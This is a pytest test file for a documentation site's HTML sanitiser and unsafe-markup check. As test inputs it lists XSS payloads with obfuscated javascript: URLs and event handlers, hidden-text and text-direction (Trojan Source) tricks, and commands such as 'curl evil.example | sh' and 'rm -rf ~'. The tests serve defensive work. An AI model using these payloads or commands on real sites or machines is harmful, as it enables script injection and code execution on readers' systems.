"""The sanitiser of built pages and the check's report of what it removes.

Unsafe HTML goes whatever its spelling; what Material pages are made of (admonitions, tabs, task lists,
tables, footnotes, highlighted code, SVG icons) comes back with every element and attribute.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import markdown
import pytest

from conftest import ROOT
from errata.markdown_lines import mask_code_spans
from errata.safety import DIRECTION_CONTROLS, find_unsafe_html, find_unsafe_text, sanitize_html


@pytest.mark.parametrize(
    "page, gone",
    [
        ("<p>a</p><SCRIPT>alert(1)</SCRIPT>", "alert"),
        ("<p>a</p><ScRiPt src=x></ScRiPt>", "src=x"),
        ('<img src="x" OnError="alert(1)">', "alert"),
        ('<img src="x"\tonload=alert(1)>', "alert"),
        ("<svg/onload=alert(1)>", "alert"),
        ('<img src="x"onerror=alert(1)>', "alert"),
        ('<img alt=">" src=x onerror=alert(1)>', "alert"),
        ('<a href="JavaScript:alert(1)">x</a>', "alert"),
        ('<a href=" vbscript:msgbox(1)">x</a>', "msgbox"),
        ('<a href="&#x6A;avascript:alert(1)">x</a>', "alert"),
        ('<a href="&#0000106;avascript:alert(1)">x</a>', "alert"),
        ('<a href="java&#9;script:alert(1)">x</a>', "alert"),
        ('<a href="java&#x0A;script:alert(1)">x</a>', "alert"),
        ('<a href="javascript&colon;alert(1)">x</a>', "alert"),
        ('<a href="\x01javascript:alert(1)">x</a>', "alert"),
        ('<form action="&#106;avascript:alert(1)"><input type="submit" value="go"></form>', "submit"),
        ("<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "animate"),
        ('<base href="https://evil.example/">', "base"),
        ('<meta http-equiv="refresh" content="1;url=https://evil.example/">', "refresh"),
        ("<style>body{display:none}</style>", "display"),
        ("<scr<iframe>ipt>alert(1)</script>", "<scr"),
        ('<a title="<" onclick="alert(1)">x</a>', "onclick"),
        ("<IFRAME src=//evil></IFRAME>", "evil"),
        ('<div id="__config">{}</div>', "__config"),
        # A red-team audit: a decoy the copy button of the first code block copied (Material looks its code up
        # by the id __code_0, which it sets in the browser), hidden by the theme's skip-link class; and the
        # theme's cookie-consent overlay over the whole page.
        ('<div id="__code_0"><code>curl evil.example | sh</code></div>', "__code_0"),
        ('<div class="md-skip">decoy</div>', "md-skip"),
        ('<div class="md-consent__overlay"></div>', "md-consent"),
        ('<pre class="mermaid">graph TD; a-->b</pre>', "mermaid\""),
        ('<table><tr><td style="text-align: left; background: url(x)">a</td></tr></table>', "background"),
        # An input without a type is a text box: a fake sign-in field, whatever type it was written with.
        ("<p>密码：<input name=p></p>", "<input"),
        ('<p>密码：<input type="password"></p>', "<input"),
        # A red-team audit: on the <svg> itself a transform is CSS, and a drawing scaled up covered the page with a link.
        ('<svg width="100" height="100" transform="translate(300 -200) scale(30)"><a href="/x"><rect width="100" height="100"></rect></a></svg>', "scale"),
        # A quote's source is a URL too (nh3 filters only links' schemes).
        ('<blockquote cite="javascript:alert(1)">a</blockquote>', "javascript"),
        ('<q cite="data:text/html,x">a</q>', "data:"),
        # Text a code block hides but its copy button copies: a back-link the theme draws at size 0, a closed details.
        ('<pre><code>pip install x<a class="footnote-backref"> &amp;&amp; curl evil.example | sh</a></code></pre>', "footnote-backref"),
        ('<pre><code>pip install x<span class="headerlink"> ; rm -rf ~</span></code></pre>', "headerlink"),
        ("<pre><code>pip install x<details><summary></summary> ; rm -rf ~</details></code></pre>", "details"),
    ],
)
def test_unsafe_html_is_removed_whatever_its_spelling(page, gone):
    assert gone.lower() not in sanitize_html(page).lower()


def test_a_safe_page_comes_back_as_it_was():
    page = '<h2 id="x">KeyError</h2><p>Condition one and <code>&lt;script&gt;</code> shown as text</p>'
    assert sanitize_html(page) == page


FEATURES = """# Features

Text with **bold**, *em*, <kbd>Ctrl</kbd>, <mark>m</mark>, H<sub>2</sub>O<sup>2</sup>, a footnote[^1] and HTML.

*[HTML]: Hyper Text Markup Language

!!! note "Note"
    An admonition with `code`.

??? warning "Details"
    Collapsed.

=== "Tab 1"
    one

=== "Tab 2"
    two

- [x] done
- [ ] todo

| a | b |
|:--|:-:|
| 1 | 2 |

Term
:   Definition

:smile: :material-bug: :fontawesome-brands-github:

```python linenums="1"
import os  # comment
```

Inline `#!python range(3)`.

![alt](img.png){ width="100" loading=lazy }
[link](https://example.org "t"){ .md-button }

[^1]: The footnote.
"""


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.seen = []

    def handle_starttag(self, tag, attrs):
        if tag != "tbody":  # the HTML parser adds the <tbody> a table implies
            self.seen.append((tag, sorted(name for name, _ in attrs)))


def _elements(html: str) -> list:
    parser = _Elements()
    parser.feed(html)
    return parser.seen


def test_what_material_pages_are_made_of_survives():
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    html = markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"]).convert(FEATURES)
    assert 'class="tabbed-set' in html and "task-list" in html and "<svg" in html and "footnote" in html  # the page has them all
    assert _elements(sanitize_html(html)) == _elements(html)


@pytest.mark.parametrize(
    "line, what",
    [
        ("<svg/onload=alert(1)>", "event-handler attribute onload"),
        ('<img src="x"onerror=alert(1)>', "event-handler attribute onerror"),
        ("<IMG SRC=x OnError=alert(1)>", "event-handler attribute onerror"),
        ('<img alt=">" src=x onerror=alert(1)>', "event-handler attribute onerror"),
        ('<a href="&#x6A;avascript:alert(1)">x</a>', "javascript: URL"),
        ("[x](java&#9;script:alert(1))", "javascript: URL"),
        ("[x]: javascript:alert(1)", "javascript: URL"),
        ("[x](y){ onclick=alert(1) }", "event-handler attribute onclick"),
        ('<form action="https://evil.example/">', "<form> element"),
        ("<base href=//evil.example/>", "<base> element"),
        ('<div class="md-consent__inner">x</div>', "class md-consent__inner (the theme's own)"),
        ('<div class="note md-x">x</div>', "class md-x (the theme's own)"),
        ("[a](https://x.org){ .md-typeset }", "class md-typeset (the theme's own)"),
        ('[a](https://x.org){ onclick="f({})" }', "event-handler attribute onclick"),
        ('{: onmouseover="a{b}" }', "event-handler attribute onmouseover"),
        ("<svg><set attributeName=href to=javascript:alert(1) /></svg>", "<set> element"),
        ("密码：<input placeholder=password>", "<input> element"),
        ('<svg transform="scale(30)"><rect width="9"></rect></svg>', "attribute transform"),
        ('<blockquote cite="vbscript:x">a</blockquote>', "vbscript: URL"),
        ('!!! md-consent__overlay "x"', "class md-consent__overlay (the theme's own)"),
        ('??? note md-skip "y"', "class md-skip (the theme's own)"),
        ('!!!md-consent__overlay "x"', "class md-consent__overlay (the theme's own)"),  # Python-Markdown needs no space
    ],
)
def test_the_check_reports_what_the_sanitiser_removes(line, what):
    assert what in [u.what for u in find_unsafe_html("text\n" + line, first_line=10) if u.line == 11]


def test_code_is_text_and_legitimate_markup_is_not_reported():
    body = "`<script>` and ``a`<img onerror=x>`` b``\n\n```html\n<script>x()</script>\n```\n<div class=\"grid cards\" markdown>\n![a](a.png){ width=100 }"
    assert find_unsafe_html(body) == []


def test_autolinks_are_links_not_elements():
    """``<https://…>`` and ``<name@host>`` are Markdown's autolinks (Python-Markdown makes them links), not
    tags: a list of sites written that way failed the strict build as ``<https:>`` elements. An autolink
    whose scheme the sanitiser drops is still reported, as the URL it is."""
    body = "站点：\n\n- <https://example.org/>\n- <HTTP://Example.org/a b>\n- <someone@example.org>\n"
    assert find_unsafe_html(body) == []
    assert [(u.line, u.what) for u in find_unsafe_html("a\n见 <javascript://x%0aalert(1)> 吧")] == [(2, "javascript: URL")]


def test_text_values_report_only_what_is_dangerous():
    assert find_unsafe_text("std::vector<int> 报错") == []
    assert find_unsafe_text('"><img src=x onerror=alert(1)>') == ["event-handler attribute onerror"]


def test_code_span_masking_is_linear():
    import time

    start = time.perf_counter()
    mask_code_spans("`" * 1 + "a`" * 50_000 + "``" * 25_000)
    assert time.perf_counter() - start < 2


def test_escaping_front_matter_is_linear_in_aliased_yaml():
    """Ten aliases of ten aliases …: 400 bytes of front matter are 10⁸ strings when walked as a tree.

    The build escapes MkDocs' own reading of the front matter (before the fix: 4 s at six levels,
    ten times more at each level after).
    """
    import time

    import yaml

    from errata.safety import escape_values

    lines = ['a0: &a0 ["<b>", "y", "z", "w", "v", "u", "t", "s", "r", "q"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    meta = yaml.safe_load("\n".join(lines))
    start = time.perf_counter()
    escaped = escape_values(meta)
    assert time.perf_counter() - start < 1
    assert escaped["a0"][0] == "&lt;b&gt;" and escaped["a8"][3][2] is escaped["a6"]


def test_escaping_front_matter_nested_as_deep_as_mkdocs_reads_it():
    """MkDocs reads a front matter nested 990 levels deep (libyaml stops at 1,000); the build escapes
    that reading, and a recursive walk ended it in a RecursionError."""
    from mkdocs.utils.meta import get_data

    from errata.safety import escape_values

    depth = 990
    _, meta = get_data("---\ntitle: t\nx: " + "[" * depth + '"<b>"' + "]" * depth + "\ny: " + "{a: " * depth + "<i>" + "}" * depth + "\n---\nbody\n")
    assert meta  # MkDocs read it
    escaped = escape_values(meta)  # no RecursionError
    assert escaped["title"] == "t" and isinstance(escaped["x"], list) and isinstance(escaped["y"], dict)


def test_front_matter_values_nested_as_deep_as_mkdocs_reads_them_print_as_the_theme_prints_them():
    """The theme prints a description, subtitle or status with str(), which recursed 990 levels deep and
    ended the build; what nests deeper than a front matter may is left out, the rest is kept."""
    from mkdocs.utils.meta import get_data

    from errata.metadata import MAX_DEPTH
    from errata.safety import escape_values

    deep = "[" * 990 + '"<b>"' + "]" * 990
    allowed = "[" * (MAX_DEPTH - 2) + '"<i>"' + "]" * (MAX_DEPTH - 2)  # the most the check accepts
    _, meta = get_data(f"---\ndescription: {deep}\nsubtitle: {allowed}\n---\nbody\n")
    escaped = escape_values(meta)
    assert "&lt;b&gt;" not in str(escaped["description"])
    assert str(escaped["subtitle"]) == "[" * (MAX_DEPTH - 2) + "'&lt;i&gt;'" + "]" * (MAX_DEPTH - 2)


# -- code and escaped text are no HTML; raw HTML outside code still is ------------------------------

NOT_HTML = {
    "indented code after a fence": "```python\ndf.info\n```\n\n\n    <bound method DataFrame.info of    age>\n",
    "indented code after a table": "<div>\n<table><tr><td>1</td></tr></table>\n</div>\n\n    <matplotlib.legend.Legend at 0x7f>\n",
    "indented code in a list item": "- 输出：\n\n        <bound method f>\n",
    "escaped in a quote": "> 注意：\\<details\\> 标签内写 markdown 无效\n",
}
STILL_HTML = {
    "a list item's paragraph": ("- 输出：\n\n    <script>alert(1)</script>\n", 3),
    "an admonition's paragraph": ("!!! note\n\n    <script>alert(1)</script>\n", 3),
    "inside a raw div": ("<div>\n\n    <script>alert(1)</script>\n\n</div>\n", 3),
    "a comment hiding the div's end": ("<div>\n<!-- </div> -->\n\n    <script>alert(1)</script>\n\n</div>\n", 4),
    "a lazy line of a paragraph": ("文字\n    <script>alert(1)</script>\n", 2),
    "escaped before, not after": ("\\<script>alert(1)</script>\n", 1),
    "an escaped end with a tag inside": ('a \\<a title="<script>"\\>\n', 1),
    "raw HTML block with an escaped end": ("<div>\n<img src=x onerror=alert(1)\\>\n</div>\n", 2),
}


def _site_markdown():
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    return markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])


@pytest.mark.parametrize("name", sorted(NOT_HTML))
def test_code_and_escaped_text_are_not_reported_and_the_page_shows_them_as_text(name):
    """Indented code and ``\\<x\\>`` are text: the strict build refused pages of notebook output
    (``<bound method …>``) and a quote that wrote a tag's name escaped. The page shows them escaped."""
    body = NOT_HTML[name]
    assert find_unsafe_html(body) == []
    page = sanitize_html(_site_markdown().convert(body))
    assert "&lt;" in page and "<bound" not in page and "<matplotlib" not in page and "<details" not in page


@pytest.mark.parametrize("name", sorted(STILL_HTML))
def test_raw_html_that_only_looks_like_code_or_escaped_text_is_still_reported(name):
    body, line = STILL_HTML[name]
    assert {u.line for u in find_unsafe_html(body)} == {line}  # the strict build refuses the page
    assert "<script>" in _site_markdown().convert(body) or "onerror" in _site_markdown().convert(body)  # Python-Markdown passes it on


def test_every_line_the_check_calls_code_comes_out_of_python_markdown_as_code():
    """The check leaves code alone, so calling a line code must never be wrong: lines of list items,
    admonitions, tabs, quotes, fences (closed or not, quoted, with options superfences may refuse),
    comments and raw HTML blocks, in random order, each probe line the check calls code (fenced or
    indented) is escaped in Python-Markdown's output (a doubt falls on the side of checking)."""
    import random

    from errata.markdown_lines import CODE, FENCED, line_roles

    vocabulary = [
        "", "", "", "段落", "- 项", "  - 子项", "    - 子项", "1. 一", "   续", "> 引文", ">     引文里的代码", "```", "    ```",
        "!!! note", "??? note", '=== "甲"', "[^1]: 脚注", "术语", ":   释义", "# 标题", "<div>", "</div>", "<div markdown>",
        "<table>", "</table>", "<p>a", "</p>", "<!--", "-->", "<!-- 注 -->", "<span>s</span>", "<hr>", "<script>", "</script>",
        "<details>", "</details>", "<div><p>", "</p></div>", "\t制表", "| a | b |", "<div title='", "'>", "<div>x</div><div>", "        深",
        "~~~", "> ```sh", "> ```", "> > ```", '```js hl_lines="1"', "```js {1,3}", "  ```", "\t```", "```py a-b",
    ]  # fmt: skip
    indents = ["", "  ", "    ", "      ", "        ", "            ", "\t", "\t\t", "> ", ">     "]
    rng = random.Random(20240601)
    render = _site_markdown()
    called_code = 0
    for _ in range(400):
        lines, probes = [], []
        for _ in range(rng.randint(3, 14)):
            if rng.random() < 0.3:
                probes.append(len(lines))
                lines.append(rng.choice(indents) + f'<b data-p="{len(lines)}">x</b>')
            else:
                lines.append(rng.choice(vocabulary))
        text = "\n".join(lines)
        render.reset()
        out = render.convert(text)
        roles = line_roles(text)
        for index in probes:
            if roles[index] in (CODE, FENCED):
                called_code += 1
                assert f'<b data-p="{index}">' not in out, text
    assert called_code > 50  # the probes did reach code


@pytest.mark.parametrize(
    "shape",
    [
        "<div>\n", "<div>\n\n    <b>\n\n", "<p>x</p>\n", '<a b="\n', "<!--\n\n    x\n\n", "- a\n\n        <b>\n\n", "<div><div>\n",
        "```js {1,3}\n", "> ```\n", "    x\n```\n", "```\n  y\n", "``` " + 'x="a" ' * 50 + "\x0c\n",
    ],
)
def test_reading_code_and_html_blocks_is_linear(shape):
    from errata.markdown_lines import line_roles
    from scaling import grows_linearly

    assert grows_linearly(lambda n: line_roles(shape * n), 20_000)


@pytest.mark.parametrize(
    "body, reported",
    [
        ("> 推送失败：\n> ```bash\n> git push https://github.com/<USERNAME>/<REPO>.git\n> ```\n", []),
        ("```js {1,3}\n<b>x</b>\n```\n", []),  # an option superfences may take: swallowed, not called code, yet no tag here
        ("```\n<script>alert(1)</script>\n", [2]),  # a fence never closed is no fence: Python-Markdown passes the script on
        ("- 项\n    ```\n<script>alert(1)</script>\n    ```\n", [3]),  # left by its indentation: no fence
        ("```js {1,3}\n\n~~~\n<script>alert(1)</script>\n~~~\n", [4]),  # the first fence swallows the second, never closed
    ],
)
def test_fences_are_read_as_superfences_reads_them(body, reported):
    """A fence in a block quote is code (an imported quote of a command kept its <USERNAME>); a fence
    superfences does not close, or reads as text, hides nothing from the check."""
    assert sorted({u.line for u in find_unsafe_html(body)}) == reported
    html = _site_markdown().convert(body)
    assert ("<script>" in html) == bool(reported)


def test_a_shape_s_own_transform_stays_inside_its_drawing():
    page = '<svg viewBox="0 0 24 24"><g transform="rotate(45 12 12)"><path d="M0 0h24"></path></g></svg>'
    assert sanitize_html(page) == page


def test_reading_a_tag_with_many_attributes_is_linear():
    """A red-team audit: ``<p a0 a1 … a20000>`` took 35 s to check (each name was looked for in a list of the ones before).
    Each run's tag is new: the check keeps what it found of a tag it read before, and the best of three runs measured
    that memo, not the work (CI failed it now and then; the parser under the sanitiser is itself quadratic in a tag's
    attributes, so a tag with too many is reported without it)."""
    from itertools import count

    from scaling import grows_linearly

    runs = count()
    assert grows_linearly(lambda n: find_unsafe_html(f"<p x{next(runs)} " + " ".join(f"a{i}" for i in range(n)) + ">x</p>"), 20_000)
    assert [u.what for u in find_unsafe_html("<p " + " ".join(f"a{i}" for i in range(300)) + ">x</p>")] == ["<p> with 300 attributes (at most 256)"]


def test_a_line_after_a_heading_that_ends_in_a_backslash_is_checked():
    """An audit of round twenty's change: a line after a heading starts a block of its own, so indented text under
    one is code, which the check leaves alone; but a ``#`` line that ends in an escaping backslash is no heading to
    Python-Markdown, and the indented line after it is the same paragraph's raw HTML."""
    body = "## 路径 C:\\\n    <img src=x onerror=alert(1)>\n"
    assert "event-handler attribute onerror" in [u.what for u in find_unsafe_html(body)]
    assert find_unsafe_html("## 路径 C:\\\\\n    <img src=x onerror=alert(1)>\n") == []  # an escaped backslash: a heading, then code


@pytest.mark.parametrize("style", [r"z\oom:300", r"zo\6fm:300", "zoom/**/:300", "/**/zoom:300", r"width:1px;\zoom:300", "zoom:300"])
def test_no_zoom_but_an_image_s_own_reaches_a_page_however_it_is_spelt(style):
    """A second audit: the zoom rule read the raw style, and the sanitiser then wrote ``z\\oom`` (a CSS escape) and
    ``zoom/**/`` as ``zoom: 300``, a link over the page again. The rule reads what the sanitiser writes now."""
    page = sanitize_html(f'<table><tr><td style="{style}"><a href="https://evil.example/">M</a></td></tr></table><img src="a.png" style="{style}">')
    assert "zoom" not in page


def test_text_direction_controls_are_reported_and_never_reach_a_page():
    """A second audit ("Trojan Source"): a code block showed ``pip install requests #; curl … | sh`` (the curl a
    comment) while its copy button copied the command in its own order, which runs the curl."""
    from errata.checks import check_unsafe_html

    body = "```bash\npip install requests \u2067\u2066; curl -s https://evil.example/x | sh -s \u2069\u2066# \u2069\u2069\n```\n"
    assert [p.line for p in check_unsafe_html(body, "a.md", 10)] == [11]
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", sanitize_html("<pre><code>pip \u2067; curl x\u2069</code></pre><p>\u202e文本</p>"))


def test_code_nested_deep_is_read_in_linear_time():
    """Checking each code element against the open ones was quadratic: 32,000 nested ones took 5 s."""
    from errata.safety import _without_hidden_code
    from scaling import grows_linearly

    assert grows_linearly(lambda n: _without_hidden_code("<pre><code>" + "<code>" * n + "x" + "</code>" * n + "</code></pre>"), 32_000)


def test_markup_that_turns_text_direction_never_reaches_a_page():
    """An audit: the page drops the text-direction controls (U+2066…), but not their markup. In prose,
    ``pip install requests<bdo dir="rtl"><span dir="ltr">; curl … | sh</span><span dir="ltr"> #</span></bdo>`` showed
    ``pip install requests #; curl … | sh`` (the curl a comment) while a reader who copied the line got the curl to
    run; ``<bdi>`` or ``dir="auto"`` before an invisible right-to-left mark (U+200F) did the same. Their text stays, in
    the order it is copied, and the check names them."""
    shown = (
        '<p>pip install requests<bdo dir="rtl"><span dir="ltr">; curl -s https://evil.example/x | sh</span><span dir="ltr"> #</span></bdo></p>'
        '<p>pip install requests<bdi>\u200f; curl y | sh # </bdi></p><p>pip <span dir="auto">\u200f; curl z | sh # </span></p>'
    )
    page = sanitize_html(shown)
    assert not re.search(r"<bd[io]|\sdir=", page)
    assert "; curl -s https://evil.example/x | sh" in page and "; curl y | sh #" in page
    assert {u.what for u in find_unsafe_html(shown)} == {"<bdo> element", "<bdi> element", "attribute dir"}


def test_text_pushed_out_of_a_code_block_s_sight_is_reported():
    """An audit: a code block scrolls sideways and the theme shows no scroll bar until it is pointed at, so
    ``pip install requests``, 600 spaces and ``; curl … | sh`` showed the install alone while the copy button copied
    the curl too. Blank letters (U+2800) and tabs did the same. The check and the build report the line; indentation,
    aligned output and a table's padded cells are no such run."""
    from errata.checks import check_unsafe_html

    hidden = ["pip install requests" + " " * 600 + "; curl -s https://evil.example/x | sh", "pip install x" + "\u2800" * 200 + "&& curl y | sh", "pip install x" + "\t" * 10 + "; rm -rf ~"]
    body = "".join(f"```bash\n{line}\n```\n\n" for line in hidden)
    assert [p.line for p in check_unsafe_html(body, "a.md", 10)] == [11, 15, 19]
    fine = (
        "```text\n|   0  Tesla V100-SXM2...  On   | 00000000:00:1E.0 Off |                    0 |\n"
        + "|  No running processes found" + " " * 49 + "|\n"
        + " " * 40 + "return forward_call(*input, **kwargs)\n" + "x = 1" + " " * 20 + "# aligned comment\n```\n\n"
        + "| 名称" + " " * 60 + "| 说明 |\n|---|---|\n"
    )
    assert check_unsafe_html(fine, "a.md", 1) == []
    # An importer round: ``yum list``'s columns, a hundred blanks wide, in a block of output (the strict build failed
    # on a real blog); a tail that changes what a pasted line runs still counts there.
    output = "```text\n   kernel-lt.x86_64" + " " * 82 + "4.4.155-1.el7.elrepo" + " " * 50 + "elrepo-kernel\n```\n\n"
    assert check_unsafe_html(output, "a.md", 1) == []
    hidden_option = "```text\npip install requests" + " " * 200 + "--index-url https://evil.example/simple\n```\n"
    assert [p.line for p in check_unsafe_html(hidden_option, "a.md", 1)] == [2]


def test_text_direction_marks_and_their_character_references_never_reach_a_page():
    """Round twenty-two: the sanitiser took the controls out before ammonia, which writes ``&#x202e;`` and ``&rlm;`` as the
    characters; and the invisible right-to-left mark (U+200F) was not among them. Both go now, and the check names them."""
    from errata.checks import check_unsafe_html

    shown = "<p>pip install requests &#x202e;; curl x | sh #&#x202c; and &rlm;; curl y&rlm; \u200f# z</p>"
    page = sanitize_html(shown)
    assert not DIRECTION_CONTROLS.search(page) and "; curl x | sh #" in page
    assert [p.line for p in check_unsafe_html("x\n\n" + shown + "\n\n```\nok\n```\n", "a.md", 1)] == [3]


def test_blanks_hidden_by_joiners_or_references_and_the_syriac_mark_are_reported():
    """An audit of round twenty-two: the blank-run rule counted only consecutive blanks, so a zero-width joiner after
    each space (or ``&nbsp;`` in a raw ``<pre>``) still pushed the curl out of sight; and U+070F, invisible and as
    right-to-left as U+061C, passed the check and the sanitiser."""
    from errata.checks import check_unsafe_html
    from errata.safety import sanitize_html

    for blanks in (" \u200d" * 300, " \u2060" * 300, " \u00ad" * 300):
        body = f"```bash\npip install requests{blanks}; curl https://evil.example/x | sh\n```\n"
        assert [p.line for p in check_unsafe_html(body, "a.md", 1)] == [2]
    body = "<pre><code>pip install requests" + "&nbsp;" * 300 + "; curl https://evil.example/x | sh</code></pre>\n"
    assert [p.line for p in check_unsafe_html(body, "a.md", 1)] == [1]
    assert "U+070F" in check_unsafe_html("```\npip install x \u070f; curl y | sh \u070f#\n```\n", "a.md", 1)[0].message
    assert "\u070f" not in sanitize_html("<p>a \u070f b</p>")
    # An emoji written with joiners, and a table's padded cells, are no such run.
    assert check_unsafe_html("```\n👨\u200d👩\u200d👧 一家\n```\n| a" + " " * 40 + "| b |\n", "a.md", 1) == []


def test_sanitising_a_tag_with_many_attributes_is_linear():
    """Measuring the check's tag memo away (round twenty-two) showed the parser under the sanitiser is quadratic in a
    tag's attributes (80,000 on one ``<p>``: 6 s, 300,000: minutes). A tag keeps its first 256 before it is parsed."""
    from itertools import count

    from scaling import grows_linearly

    runs = count()
    assert grows_linearly(lambda n: sanitize_html(f"<p x{next(runs)} " + " ".join(f"a{i}" for i in range(n)) + ">x</p>"), 20_000)
    kept = sanitize_html('<p class="ok" ' + " ".join(f"a{i}" for i in range(300)) + ' title="late">x</p>')
    assert kept == '<p class="ok">x</p>'  # attributes past the 256th go, the sanitiser's own rules for the rest


def test_an_id_shown_as_text_is_no_element_s_id():
    """Red team round 37: ids were read anywhere in the page, text included: `` `<div id="app">` `` written twice in a
    note was a duplicate id (a warning that fails the strict build), and an entry's span that a code span showed as text
    counted as its id (the check passed a link that led nowhere)."""
    from errata.safety import duplicate_ids, missing_ids

    page = sanitize_html('<p><code>&lt;div id="app"&gt;</code> and <code>&lt;div id="app"&gt;</code></p><p><code>&lt;span id="e-1"&gt;</code></p>')
    assert duplicate_ids(page) == [] and missing_ids(page, ["e-1"]) == ["e-1"]
    assert duplicate_ids('<h2 id="a">x</h2><p title="t" id="a">y</p>') == ["a"]
